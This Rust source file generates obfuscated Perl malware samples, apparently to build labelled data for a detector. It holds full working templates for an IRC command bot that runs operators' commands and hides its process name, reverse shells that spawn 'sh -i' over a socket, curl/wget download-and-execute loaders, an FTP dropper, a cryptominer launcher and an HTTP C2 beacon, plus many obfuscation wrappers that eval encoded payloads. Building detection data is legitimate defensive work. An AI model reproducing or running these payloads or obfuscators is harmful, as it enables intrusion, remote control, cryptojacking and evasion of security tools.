//! Perl: IRC bots, reverse shells, loaders of miners and what is in one line, under `pack`,
//! `unpack u` and patterns with code in them.

use super::super::{
    Dice, Truth, base64, codes, each, hex, keyed, put, quoted, reversed, rot13, xored,
};
use super::{agent, alphabet, camel, chunks, halves, letters, numbers, places, salad, word};

fn name(dice: &mut Dice) -> String {
    match dice.below(3) {
        0 => dice.name(),
        1 => format!("_{}", salad(dice, 6)),
        _ => camel(dice),
    }
}

/// Uuencoding, as `pack 'u'` gives it.
fn uuencoded(bytes: &[u8]) -> String {
    let letter = |value: u8| if value == 0 { '`' } else { char::from(value + 32) };
    let mut out = String::new();
    for line in bytes.chunks(45) {
        out.push(letter(line.len() as u8));
        for group in line.chunks(3) {
            let mut three = [0u8; 3];
            three[..group.len()].copy_from_slice(group);
            let number = u32::from_be_bytes([0, three[0], three[1], three[2]]);
            for shift in [18, 12, 6, 0] {
                out.push(letter((number >> shift & 63) as u8));
            }
        }
        out.push('\n');
    }
    out
}

/// `text` as two strings that give it when one is laid over the other.
fn laid_over(dice: &mut Dice, text: &str) -> (String, String) {
    let (mut one, mut two) = (String::new(), String::new());
    for byte in text.bytes() {
        let safe = |it: u8| (0x21..0x7f).contains(&it) && !b"'\\@$%{}()[]/#\"~".contains(&it);
        let mut done = false;
        for _ in 0..200 {
            let other = 0x21 + dice.below(0x5d) as u8;
            if safe(other) && safe(other ^ byte) {
                one.push(char::from(other));
                two.push(char::from(other ^ byte));
                done = true;
                break;
            }
        }
        if !done {
            // A letter over nothing stays what it is.
            one.push(char::from(byte));
            two.push('\0');
        }
    }
    (one, two)
}

pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let own = name(dice);
    match dice.below(19) {
        0 => format!("pack('H*', '{}')", hex(text.as_bytes())),
        1 => {
            let list = codes(text.bytes(), ",");
            match dice.below(4) {
                0 => format!("pack('C*', {list})"),
                1 => format!("join('', map {{ chr($_) }} ({list}))"),
                2 => format!("pack(\"c{}\", {list})", text.len()),
                _ => format!("sprintf('%c' x {}, {list})", text.len()),
            }
        }
        2 => each(text, ".", |it| format!("chr({it})")),
        3 => {
            let data = base64(text.as_bytes());
            if dice.chance(50) {
                before.push_str("use MIME::Base64;\n");
                format!("decode_base64('{data}')")
            } else {
                before.push_str("require MIME::Base64;\n");
                format!("MIME::Base64::decode('{data}')")
            }
        }
        4 => {
            let data = uuencoded(text.as_bytes());
            let end = dice.pick(&["UU", "END", "EOT"]);
            if dice.chance(50) {
                before.push_str(&format!("my ${own} = unpack('u', <<'{end}');\n{data}{end}\n"));
                format!("${own}")
            } else {
                let said = data.trim_end().replace('\\', "\\\\").replace('\'', "\\'");
                format!("unpack('u', '{said}')")
            }
        }
        5 => match dice.below(2) {
            0 => format!("scalar reverse('{}')", reversed(text)),
            _ => format!("join('', reverse(split(//, '{}')))", reversed(text)),
        },
        6 => {
            let by = 1 + dice.below(25) as u8;
            let told: String = text
                .bytes()
                .map(|it| match it {
                    b'a'..=b'z' => char::from((it - b'a' + by) % 26 + b'a'),
                    other => char::from(other),
                })
                .collect();
            let (start, end) = (char::from(b'a' + by), char::from(b'a' + by - 1));
            let mark = dice.pick(&["tr", "y"]);
            before.push_str(&format!("(my ${own} = '{told}') =~ {mark}/{start}-za-{end}/a-z/;\n"));
            format!("${own}")
        }
        7 => {
            let mark = loop {
                let mark = dice.mark(text);
                if !mark.contains(['@', '#']) {
                    break mark;
                }
            };
            let littered = dice.littered(text, &mark);
            if dice.chance(50) {
                format!("'{littered}' =~ s/{mark}//gr")
            } else {
                before.push_str(&format!("my ${own} = '{littered}';\n${own} =~ s/{mark}//g;\n"));
                format!("${own}")
            }
        }
        8 => {
            let (one, two) = laid_over(dice, text);
            format!("'{one}' ^ '{two}'").replace('\0', "'.chr(0).'")
        }
        9 => match dice.below(3) {
            0 => format!("\"{}\"", each(text, "", |it| format!("\\x{it:02x}"))),
            1 => format!("\"{}\"", each(text, "", |it| format!("\\{it:03o}"))),
            _ => format!("\"{}\"", each(text, "", |it| format!("\\x{{{it:x}}}"))),
        },
        10 => {
            before.push_str(&format!(
                "my ${own} = '{}';\n${own} =~ s/([a-fA-F0-9]{{2}})/chr(hex($1))/eg;\n",
                hex(text.as_bytes())
            ));
            format!("${own}")
        }
        11 => {
            let all = alphabet(dice, text, "abcdefghijklmnopqrstuvwxyz");
            let list = places(&all, text);
            if dice.chance(50) {
                before.push_str(&format!("my @{own} = split(//, '{all}');\n"));
                format!("join('', @{own}[{}])", numbers(&list, ","))
            } else {
                before.push_str(&format!("my ${own} = '{all}';\n"));
                list.iter().map(|at| format!("substr(${own},{at},1)")).collect::<Vec<_>>().join(".")
            }
        }
        12 => {
            let pieces = dice.pieces(text);
            let list: Vec<String> = dice
                .order(pieces.len())
                .into_iter()
                .map(|at| format!("{} => '{}'", at + 1, pieces[at]))
                .collect();
            before.push_str(&format!("my %{own} = ({});\n", list.join(", ")));
            format!("join('', map {{ ${own}{{$_}} }} sort {{ $a <=> $b }} keys %{own})")
        }
        13 => {
            let key = dice.key();
            format!("join('', map {{ chr($_ ^ {key}) }} ({}))", codes(xored(text, key), ","))
        }
        14 => {
            let list = each(text, ".", |it| it.to_string());
            if dice.chance(60) {
                format!("v{list}")
            } else {
                format!("join('', map {{ chr }} split(/\\./, '{list}'))")
            }
        }
        15 => {
            let key = word(dice, 6, 5);
            before.push_str(&format!(
                "sub {own} {{\n    my ($d, $k) = @_;\n    my $o = '';\n    my @k = split //, $k;\n    my $i = 0;\n    foreach my $c (unpack('C*', pack('H*', $d))) {{\n        $o .= chr($c ^ ord($k[$i++ % @k]));\n    }}\n    return $o;\n}}\n"
            ));
            format!("{own}('{}', '{key}')", hex(&keyed(text, &key)))
        }
        16 => {
            let pieces = dice.pieces(text);
            let mut line = String::new();
            let mut form = String::new();
            for piece in &pieces {
                let junk = 1 + dice.below(4);
                line.push_str(&letters(dice, junk));
                line.push_str(piece);
                form.push_str(&format!("x{junk}a{}", piece.len()));
            }
            format!("join('', unpack('{form}', '{line}'))")
        }
        17 => {
            let data = rot13(&base64(text.as_bytes()));
            before.push_str(&format!(
                "use MIME::Base64;\nmy ${own} = '{data}';\n${own} =~ tr/A-Za-z/N-ZA-Mn-za-m/;\n${own} = decode_base64(${own});\n"
            ));
            format!("${own}")
        }
        _ => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let said: Vec<String> = order.iter().map(|at| pieces[*at].clone()).collect();
            let picks: Vec<String> = (0..pieces.len())
                .filter_map(|at| order.iter().position(|it| *it == at))
                .map(|at| at.to_string())
                .collect();
            if dice.chance(50) {
                format!("join('', ({})[{}])", quoted(&said, '\'').join(", "), picks.join(","))
            } else {
                let names: Vec<String> = pieces.iter().map(|_| dice.name()).collect();
                for at in order {
                    before.push_str(&format!("my ${} = '{}';\n", names[at], pieces[at]));
                }
                let form: String = names.iter().map(|it| format!("${{{it}}}")).collect();
                format!("\"{form}\"")
            }
        }
    }
}

fn hidden(dice: &mut Dice, text: &str) -> (String, String) {
    let mut before = String::new();
    let word = hide(dice, text, &mut before);
    (before, if word.contains(" ^ ") || word.contains(" =~ ") { format!("({word})") } else { word })
}

/// The whole script as data that is run.
fn wrapped(dice: &mut Dice, script: &str) -> String {
    match dice.below(8) {
        0 => format!(
            "#!/usr/bin/perl\nuse MIME::Base64;\neval(decode_base64('{}'));\n",
            base64(script.as_bytes())
        ),
        1 => format!("eval unpack u=><<'UU';\n{}UU\n", uuencoded(script.as_bytes())),
        2 => format!("#!/usr/bin/perl\neval(pack('H*', '{}'));\n", hex(script.as_bytes())),
        3 => {
            // As Acme::EyeDrops leaves it.
            let (one, two) =
                laid_over(dice, &format!("eval(pack('H*',\"{}\"))", hex(script.as_bytes())));
            if one.contains('\\') || two.contains('\0') {
                return format!("eval(pack(\"H*\",\"{}\"));\n", hex(script.as_bytes()));
            }
            format!("use re 'eval';\n''=~('(?{{'.('{one}'^'{two}').'}})');\n")
        }
        4 => {
            let own = name(dice);
            let mut out = format!("my ${own} = '';\n");
            for line in chunks(&reversed(&hex(script.as_bytes())), 80) {
                out.push_str(&format!("${own} .= '{line}';\n"));
            }
            out + &format!("eval pack('H*', scalar reverse ${own});\nprint $@ if $@;\n")
        }
        5 => {
            let key = dice.key();
            format!(
                "eval(join('', map {{ chr($_ ^ {key}) }} ({})));\n",
                codes(script.bytes().map(|it| it ^ key), ",")
            )
        }
        6 => {
            let data = chunks(&base64(script.as_bytes()), 76).join("\n");
            format!(
                "#!/usr/bin/perl\nuse MIME::Base64;\nlocal $/;\nmy $c = <DATA>;\neval decode_base64($c);\n__DATA__\n{data}\n"
            )
        }
        _ => {
            let own = name(dice);
            let data = base64(script.as_bytes());
            format!(
                "#!/usr/bin/perl -w\n# no modules at hand\nmy ${own} = '{data}';\n${own} =~ tr#A-Za-z0-9+/##cd;\n${own} =~ tr#A-Za-z0-9+/# -_#;\neval(join('', map {{ unpack('u', chr(32 + length($_) * 3 / 4) . $_) }} (${own} =~ /(.{{1,60}})/gs)));\n"
            )
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let script = plain(dice, truth);
    if dice.chance(32) && !script.contains("__END__") { wrapped(dice, &script) } else { script }
}

fn plain(dice: &mut Dice, truth: &mut Truth) -> String {
    match dice.below(13) {
        0 | 1 => bot(dice, truth),
        2 => socket_shell(dice, truth),
        3 => object_shell(dice, truth),
        4 => one_line(dice, truth),
        5 => agent_object(dice, truth),
        6 => commands(dice, truth),
        7 => pipe(dice, truth),
        8 => tiny(dice, truth),
        9 => request(dice, truth),
        10 => old_transfer(dice, truth),
        11 => miner(dice, truth),
        _ => beacon(dice, truth),
    }
}

/// A bot of a chat, as they are handed from one to the next.
fn bot(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = truth.endpoint(dice);
    let (before, word) = hidden(dice, &host);
    let process = dice.pick(&[
        "/usr/sbin/httpd",
        "/usr/sbin/apache2 -k start",
        "[kworker/0:1]",
        "-bash",
        "rsync",
    ]);
    put(
        "#!/usr/bin/perl\n######################\n## @NICK@ v@VER@ ##\n######################\n\nmy $processo = '@PROC@';\n\n@BEFORE@$servidor = @HOST@ unless $servidor;\nmy $porta = '@PORT@';\nmy @canais = (\"#@CHAN@\");\nmy @adms = (\"@NICK@\", \"@ADMIN@\");\nmy @nicks = (\"A\", \"B\", \"C\");\nmy $nick = '@NICK@' . int(rand(1000));\nmy $ircname = '@NICK@';\nchop (my $realname = `id -un`);\nmy $linas_max = '8';\nmy $sleep = '5';\nmy $VERSAO = '0.2a';\n\n$SIG{'INT'}  = 'IGNORE';\n$SIG{'HUP'}  = 'IGNORE';\n$SIG{'TERM'} = 'IGNORE';\n$SIG{'CHLD'} = 'IGNORE';\n$SIG{'PS'}   = 'IGNORE';\n\nuse IO::Socket;\nuse IO::Select;\n\nchdir(\"/tmp\");\n$servidor = \"$ARGV[0]\" if $ARGV[0];\n$0 = \"$processo\" . \"\\0\" x 16;\n\nour %irc_servers;\nmy $sel_cliente = IO::Select->new();\n\nsub sendraw {\n  if ($#_ == '1') {\n    my $socket = $_[0];\n    print $socket \"$_[1]\\n\";\n  } else {\n    print $IRC_cur_socket \"$_[0]\\n\";\n  }\n}\n\nsub conectar {\n  my $meunick = $_[0];\n  my $servidor_con = $_[1];\n  my $porta_con = $_[2];\n  my $IRC_socket = IO::Socket::INET->new(Proto => \"tcp\", PeerAddr => \"$servidor_con\", PeerPort => $porta_con) or return(1);\n  if (defined($IRC_socket)) {\n    $IRC_cur_socket = $IRC_socket;\n    $IRC_socket->autoflush(1);\n    $sel_cliente->add($IRC_socket);\n    $irc_servers{$IRC_cur_socket}{'host'} = \"$servidor_con\";\n    $irc_servers{$IRC_cur_socket}{'porta'} = \"$porta_con\";\n    $irc_servers{$IRC_cur_socket}{'nick'} = $meunick;\n    sendraw(\"NICK $meunick\");\n    sendraw(\"USER $ircname \" . $IRC_socket->sockhost . \" $servidor_con :$realname\");\n    sleep 1;\n  }\n}\n\nsub parse {\n  my $servarg = shift;\n  if ($servarg =~ /^PING \\:(.*)/) {\n    sendraw(\"PONG :$1\");\n  } elsif ($servarg =~ /^\\:(.+?)\\!(.+?)\\@(.+?) PRIVMSG (.+?) \\:(.+)/) {\n    my ($pn, $arg) = ($1, $5);\n    if (grep { $_ eq $pn } @adms) {\n      my @lines = `$arg 2>&1`;\n      sendraw(\"PRIVMSG $pn :$_\") for @lines;\n    }\n  }\n}\n\nmy $line_temp;\nwhile (1) {\n  while (!(keys(%irc_servers))) { conectar(\"$nick\", \"$servidor\", \"$porta\"); sleep $sleep unless keys(%irc_servers); }\n  delete($irc_servers{''}) if (defined($irc_servers{''}));\n  my @ready = $sel_cliente->can_read(0.6);\n  next unless (@ready);\n  foreach my $fh (@ready) {\n    $IRC_cur_socket = $fh;\n    my $msg;\n    my $nread = sysread($fh, $msg, 4096);\n    if (!$nread) {\n      $sel_cliente->remove($fh);\n      $fh->close;\n      delete($irc_servers{$fh});\n    }\n    foreach my $line (split(/\\n/, $msg || '')) { parse($line); }\n  }\n}\n",
        &[
            ("NICK", &dice.name()),
            ("ADMIN", &dice.name()),
            ("CHAN", &dice.name()),
            ("VER", &dice.below(9).to_string()),
            ("PROC", process),
            ("BEFORE", &before),
            ("HOST", &word),
            ("PORT", &port.to_string()),
        ],
    )
}

fn socket_shell(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = truth.endpoint(dice);
    let (before, word) = hidden(dice, &host);
    match dice.below(3) {
        0 => format!(
            "use Socket;{before}$i={word};$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"sh -i\");}};\n"
        ),
        1 => format!(
            "#!/usr/bin/perl\nuse strict;\nuse Socket;\nuse FileHandle;\n{before}\nmy $remote_ip = {word};\nmy $remote_port = {port};\nmy $proto = getprotobyname(\"tcp\");\nmy $pack_addr = sockaddr_in($remote_port, inet_aton($remote_ip));\nmy $shell = '/bin/sh -i';\nsocket(SOCK, AF_INET, SOCK_STREAM, $proto);\nSTDOUT->autoflush(1);\nSOCK->autoflush(1);\nconnect(SOCK, $pack_addr) or die \"cannot connect:$!\";\nopen STDIN, \"<&SOCK\";\nopen STDOUT, \">&SOCK\";\nopen STDERR, \">&SOCK\";\nprint \"Enjoy the shell.\\n\";\nsystem($shell);\nclose SOCK;\nexit 0;\n"
        ),
        _ => {
            let octets: Vec<u8> = host.split('.').filter_map(|it| it.parse().ok()).collect();
            let address = if let [a, b, c, d] = octets[..] {
                match dice.below(2) {
                    0 => format!("pack('N', {})", u32::from_be_bytes([a, b, c, d])),
                    _ => format!("pack('C4', {a}, {b}, {c}, {d})"),
                }
            } else {
                format!("(inet_aton({word}) || \"\\0\\0\\0\\0\")")
            };
            format!(
                "#!/usr/bin/perl\nuse Socket;\n{before}my $to = pack_sockaddr_in({port}, {address});\nsocket(my $s, PF_INET, SOCK_STREAM, 6) || exit;\nconnect($s, $to) || exit;\nselect((select($s), $| = 1)[0]);\nwhile (my $line = <$s>) {{\n    print $s scalar `$line`;\n}}\n"
            )
        }
    }
}

fn object_shell(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = truth.endpoint(dice);
    match dice.below(3) {
        0 => {
            let (before, word) = hidden(dice, &host);
            format!(
                "{before}use IO::Socket;$p=fork;exit,if($p);foreach my $key(keys %ENV){{if($ENV{{$key}}=~/(.*)/){{$ENV{{$key}}=$1;}}}}$c=new IO::Socket::INET(PeerAddr,{word}.\":{port}\");STDIN->fdopen($c,r);$~->fdopen($c,w);while(<>){{if($_=~ /(.*)/){{system $1;}}}};\n"
            )
        }
        1 => {
            let (before, word) = hidden(dice, &format!("{host}:{port}"));
            format!(
                "#!/usr/bin/perl -w\nuse strict;\nuse IO::Socket::INET;\n{before}my $c = IO::Socket::INET->new({word}) or exit;\nwhile (my $l = <$c>) {{ print $c `$l`; }}\n"
            )
        }
        _ => {
            let (before, word) = hidden(dice, &host);
            format!(
                "#!/usr/bin/perl\nuse IO::Socket;\n{before}my %o = (Proto => 'tcp', PeerHost => {word}, PeerPort => {port}, Timeout => 10);\nfor my $try (1..2) {{\n    my $s = IO::Socket::INET->new(%o);\n    next unless $s;\n    print $s \"hello $0\\n\";\n    while (<$s>) {{ chomp; last if /^quit/; print $s qx{{$_}}; }}\n    close $s;\n}}\n"
            )
        }
    }
}

fn one_line(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".sh", ".pl", ".php?n=3"]);
    let (before, word) = hidden(dice, &url);
    match dice.below(5) {
        0 => format!("{before}use LWP::Simple;eval get({word});\n"),
        1 => format!("{before}my $u={word};eval `curl -s $u`;\n"),
        2 => format!("{before}system('wget -qO- ' . {word} . ' | sh');\n"),
        3 => format!("{before}exec(\"/bin/sh\",\"-c\",\"curl -fsSL \".{word}.\"|perl\");\n"),
        _ => format!(
            "{before}use LWP::Simple qw(getstore);getstore({word},'./.{0}');chmod 0755,'./.{0}';system('./.{0} &');\n",
            dice.name()
        ),
    }
}

fn agent_object(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".bin", ".tgz"]);
    let (before, word) = hidden(dice, &url);
    let file = dice.name();
    let agent = agent(dice);
    match dice.below(3) {
        0 => format!(
            "#!/usr/bin/perl\nuse strict;\nuse warnings;\nuse LWP::UserAgent;\n{before}\nmy $ua = LWP::UserAgent->new(timeout => 30, agent => '{agent}', ssl_opts => {{ verify_hostname => 0 }});\nmy $r = $ua->get({word}, ':content_file' => './{file}');\nif ($r->is_success) {{\n    chmod 0700, './{file}';\n    system('./{file}') == 0 or exit 1;\n}}\n"
        ),
        1 => format!(
            "use LWP::UserAgent;\nuse HTTP::Request;\n{before}my $ua = LWP::UserAgent->new;\n$ua->agent('{agent}');\nmy $req = HTTP::Request->new(GET => {word});\n$req->header('Accept' => '*/*');\nmy $res = $ua->request($req);\neval $res->content if $res->is_success;\n"
        ),
        _ => format!(
            "#!/usr/bin/perl\nrequire LWP::UserAgent;\n{before}my $m = new LWP::UserAgent;\n$m->mirror({word}, '{file}');\nchmod(0755, '{file}');\nexec('./{file}');\n"
        ),
    }
}

fn commands(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".sh", ".x86"]);
    let (before, word) = hidden(dice, &url);
    let file = dice.name();
    match dice.below(3) {
        0 => format!(
            "#!/usr/bin/perl\n{before}my $u = {word};\nmy $f = '.{file}';\nsystem(\"cd . ; wget -q $u -O $f || curl -s $u -o $f\");\nsystem('chmod', '+x', $f);\nsystem(\"nohup ./$f >/dev/null 2>&1 &\");\n"
        ),
        1 => format!(
            "#!/usr/bin/perl\n{before}my @cmd = ('wget', '-q', '-O', '.{file}', {word});\nif (system(@cmd) == 0) {{ chmod 0755, '.{file}'; exec './.{file}' or die; }}\n"
        ),
        _ => format!(
            "#!/usr/bin/perl\n{before}my $c = join(' ', 'cu' . 'rl', '-s', '-L', {word});\nmy $o = `$c`;\nopen(my $fh, '>', '.{file}') or exit;\nprint $fh $o;\nclose $fh;\nsystem('sh .{file}');\n"
        ),
    }
}

fn pipe(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".pl", ".sh"]);
    let (before, word) = hidden(dice, &url);
    match dice.below(3) {
        0 => format!(
            "#!/usr/bin/perl\n{before}my $u = {word};\nopen(P, \"curl -s $u |\") or exit;\nmy $c = join('', <P>);\nclose(P);\neval $c;\n"
        ),
        1 => format!(
            "#!/usr/bin/perl\n{before}open(my $in, '-|', 'wget', '-q', '-O', '-', {word}) or exit;\nlocal $/;\neval <$in>;\n"
        ),
        _ => format!(
            "#!/usr/bin/perl\n{before}my $u = {word};\nmy $c = qx(curl -k -s '$u');\nopen(S, '| sh');\nprint S $c;\nclose S;\n"
        ),
    }
}

fn tiny(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".json", ".txt"]);
    let (server, path) = halves(&url);
    let (before, word) = hidden(dice, &server);
    format!(
        "#!/usr/bin/perl\nuse strict;\nuse HTTP::Tiny;\n{before}\nmy %conf = (\n    base => {word},\n    path => '{path}',\n    wait => {},\n);\n\nsub fetch {{\n    my ($c) = @_;\n    my $http = HTTP::Tiny->new(agent => '{}', timeout => 15);\n    my $r = $http->get($c->{{base}} . $c->{{path}});\n    return $r->{{success}} ? $r->{{content}} : undef;\n}}\n\nmy $code = fetch(\\%conf);\neval $code if defined $code;\n",
        dice.below(60),
        agent(dice)
    )
}

/// A request said word by word to a socket.
fn request(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, path) = (dice.host(), format!("/{}/{}", dice.name(), dice.name()));
    let port = if dice.chance(50) { 80 } else { dice.port() };
    let part = if port == 80 { String::new() } else { format!(":{port}") };
    truth.urls.insert(format!("http://{host}{part}{path}"));
    let (before, word) = hidden(dice, &host);
    format!(
        "#!/usr/bin/perl\nuse IO::Socket;\n{before}my $host = {word};\nmy $port = {port};\nmy $path = '{path}';\nmy $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => 'tcp') or exit;\nprint $s \"GET $path HTTP/1.0\\r\\nHost: $host\\r\\nUser-Agent: {}\\r\\n\\r\\n\";\nmy $body = 0;\nmy $code = '';\nwhile (<$s>) {{\n    if ($body) {{ $code .= $_; }}\n    $body = 1 if /^\\r?\\n$/;\n}}\nclose $s;\neval $code;\n",
        agent(dice)
    )
}

fn old_transfer(dice: &mut Dice, truth: &mut Truth) -> String {
    let host = dice.host();
    let port = if dice.chance(50) { 21 } else { dice.port() };
    truth.endpoints.insert((host.clone(), port));
    let (before, word) = hidden(dice, &host);
    let file = dice.name();
    format!(
        "#!/usr/bin/perl\nuse Net::FTP;\n{before}my $f = Net::FTP->new({word}, Port => {port}, Timeout => 20, Debug => 0) or exit;\n$f->login('{0}', '{1}') or exit;\n$f->binary;\n$f->get('{file}');\n$f->quit;\nchmod 0755, '{file}';\nsystem('./{file}');\n",
        dice.name(),
        salad(dice, 8)
    )
}

fn miner(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", "/xm", ".tar.gz"]);
    let (host, port) = truth.endpoint(dice);
    let (before, word) = hidden(dice, &url);
    let (more, pool) = hidden(dice, &host);
    let file = dice.name();
    format!(
        "#!/usr/bin/perl\nuse strict;\nuse POSIX qw(setsid);\n$0 = '[{file}]';\n{before}{more}my $url = {word};\nmy $pool = {pool};\nmy $wallet = '4{}';\nmy $cores = `nproc`;\nchomp $cores;\nunless (-e './{file}') {{\n    system(\"curl -s -o ./{file} $url\");\n    chmod 0755, './{file}';\n}}\nmy @args = ('./{file}', '-o', \"$pool:{port}\", '-u', $wallet, '-t', $cores);\nsystem(@args);\n",
        salad(dice, 94)
    )
}

/// Says who it is, now and again.
fn beacon(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["/gate.php", "/ping.cgi", ""]);
    let (before, word) = hidden(dice, &url);
    let function = camel(dice);
    format!(
        "#!/usr/bin/perl\npackage Agent;\nuse strict;\nuse LWP::UserAgent;\nuse Sys::Hostname;\n{before}our $C2 = {word};\n\nsub new {{\n    my $class = shift;\n    return bless {{ ua => LWP::UserAgent->new(agent => '{}'), url => $C2 }}, $class;\n}}\n\nsub {function} {{\n    my $self = shift;\n    my $r = $self->{{ua}}->post($self->{{url}}, {{ h => hostname(), u => scalar(getpwuid($<)), o => $^O }});\n    return $r->is_success ? $r->content : '';\n}}\n\npackage main;\nmy $one = Agent->new();\nmy $told = $one->{function}();\nsystem($told) if length $told;\n",
        agent(dice)
    )
}
